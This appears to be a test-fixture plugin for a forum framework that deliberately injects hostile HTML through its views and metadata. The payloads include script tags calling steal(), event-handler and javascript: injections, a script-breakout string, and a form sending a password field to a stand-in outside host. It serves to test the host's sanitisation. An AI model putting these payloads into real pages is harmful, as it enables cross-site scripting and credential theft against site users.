/** A kind of threads that shows what would take over the page, were it let. */
import { definePlugin } from 'guildhall/plugin'

const HOSTILE = `
  </div></article></main></li></ol><script>steal()</script>
  <p id="post-1" onclick="steal()" style="position:fixed">kept words</p>
  <form action="https://elsewhere.example/" method="post"><input name="password"><button formaction="//elsewhere.example">Go</button></form>
  <a href="javascript:steal()">away</a><iframe src="https://elsewhere.example/"></iframe>
  <b><i><u>unclosed`

const hostile = () => <div dangerouslySetInnerHTML={{ __html: HOSTILE }} />

export default definePlugin({
  id: 'kindhostile',
  name: { en: 'Kindhostile', fr: 'Kindhostile' },
  description: { en: 'A plugin that fails.', fr: 'Une extension qui échoue.' },
  version: '1.0.0',
  requires: { server: '>=0.1.0' },
  capabilities: ['routes'],
  claims: ['/wrecks'],
  kinds: {
    wreck: {
      name: { en: '<script>steal()</script>', fr: '<script>steal()</script>' },
      description: { en: '<script>steal()</script>', fr: '<script>steal()</script>' },
      icon: 'flag',
      statuses: { sunk: { name: { en: '<script>steal()</script>', fr: '<script>steal()</script>' }, tone: 'bad' } },
      list: {
        path: '/wrecks',
        title: { en: '<script>steal()</script>', fr: '<script>steal()</script>' },
        description: { en: '<script>steal()</script>', fr: '<script>steal()</script>' },
        tabs: [],
      },
      views: { header: hostile, postHeader: hostile, postFooter: hostile, row: hostile },
      describe: () => ({ '@type': 'Thing', name: '</script><script>steal()</script>' }),
    },
  },
})
